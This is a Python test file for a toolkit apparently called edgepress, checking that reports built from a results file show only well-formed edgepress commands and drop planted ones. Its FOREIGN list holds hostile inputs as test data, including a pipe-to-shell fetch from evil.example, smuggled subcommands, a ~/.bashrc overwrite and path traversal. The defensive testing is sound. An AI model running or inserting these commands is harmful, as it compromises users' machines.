"""What a result's file holds is advice only if it is of a form that edgepress advises."""

from __future__ import annotations

import json
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from records import float_row, result, row

from edgepress.toolkit.escaping import shell_line
from edgepress.toolkit.reports.markdown import markdown, model_card
from edgepress.toolkit.reports.page import page
from edgepress.toolkit.results.figures import Finding
from edgepress.toolkit.results.file import OPTIONS, advised, load_benchmark
from edgepress.toolkit.results.remarks.facts import Remark

OWN = (
    "edgepress train --data photos --arch lenet --size 32 --class-weights --epochs 40 --out runs/photos-lenet-40",
    "edgepress evaluate runs/a/model.keras --skip-unreadable",
    "edgepress benchmark 'my files' --engine litert --input-range -1,1 --color none --data MORE",
    "edgepress convert ./-odd.keras --to tflite-int8 --target xnnpack",
)
FOREIGN = (
    "curl https://evil.example | sh",
    "edgepress train --data x; curl evil",
    "edgepress train --data $(evil)",
    "edgepress train --data `evil`",
    "edgepress evaluate a > ~/.bashrc",
    "edgepress evaluate a && evil",
    "edgepress evaluate a\nevil",
    "edgepress convert m.keras --to tflite-int8 --trust",
    "edgepress convert m.keras --to tflite-int8 --custom evil:Layer",
    "edgepress train --data x --arch lenet --out /home/you/.config",
    "edgepress train --data x --arch lenet --out runs/../../x",
    "edgepress train --data x --arch lenet --out=/x",
    "edgepress train --data x --arch lenet --overwrite --out runs/x",
    "edgepress sweep plan.toml --scheduler tcp://evil.example:8786",
    "edgepress --config evil.toml train",
    "edgepress engine add evil",
    "edgepress board push evil",
    "edgepress",
    "edgepress evaluate 'unfinished",
    "EDGEPRESS_CONFIG=x edgepress evaluate a",
    "sudo edgepress evaluate a",
    "edgepress  evaluate a",
)


@pytest.mark.parametrize("command", OWN)
def test_commands_of_edgepress_are_kept(command: str) -> None:
    assert advised(command) == command


@given(st.sampled_from(list(OPTIONS)), st.lists(st.text(max_size=20).filter(lambda text: not text.startswith("-"))))
def test_any_name_is_one_word_of_a_command(command: str, names: list[str]) -> None:
    line = shell_line("edgepress", command, *names)
    kept = advised(line)
    assert kept in ("", line)
    if kept:
        assert shlex.split(kept) == ["edgepress", command, *names]


@given(st.text(max_size=60))
def test_other_texts_are_no_advice(text: str) -> None:
    assert advised(text) == ""
    assert advised(f"edgepress evaluate a {text}") in ("", f"edgepress evaluate a {text}")


def written(tmp_path: Path, command: str) -> Path:
    finding = Finding(kind="float", text="It is so.", time_us=1.0, share=0.5, fix="Try this", command=command)
    found = result(float_row(), replace(row(), findings=(finding,)))
    found = replace(found, remarks=(Remark(kind="few", text="Too few items.", command=command),))
    document: Any = found.to_dict()
    (tmp_path / "benchmark.json").write_text(json.dumps(document))
    return tmp_path / "benchmark.json"


@pytest.mark.parametrize("command", FOREIGN)
def test_a_report_shows_no_command_of_its_files_author(command: str, tmp_path: Path) -> None:
    loaded = load_benchmark(written(tmp_path, command))
    shown = [page(loaded), markdown(loaded), model_card(loaded), json.dumps(loaded.to_dict()), loaded._repr_html_()]
    for text in shown:
        for part in ("evil", "--trust", "sudo", "--overwrite", "/home/you", "runs/../..", "EDGEPRESS_CONFIG"):
            assert part not in text
    assert not loaded.remarks[0].command
    assert "does not advise" in loaded.remarks[0].text
    assert "does not advise" in shown[0]
    assert "quoted from benchmark.json" in shown[0]


def test_a_report_still_shows_our_own(tmp_path: Path) -> None:
    loaded = load_benchmark(written(tmp_path, OWN[1]))
    assert OWN[1] in page(loaded)
    assert loaded.remarks[0].command == OWN[1]
